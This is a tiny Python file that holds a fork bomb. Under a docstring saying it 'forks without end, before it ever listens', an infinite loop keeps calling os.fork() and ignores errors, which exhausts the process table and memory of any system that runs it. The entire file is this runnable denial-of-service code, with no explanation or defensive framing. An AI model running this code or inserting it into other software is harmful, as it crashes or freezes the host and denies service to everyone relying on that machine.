"""Forks without end, before it ever listens."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
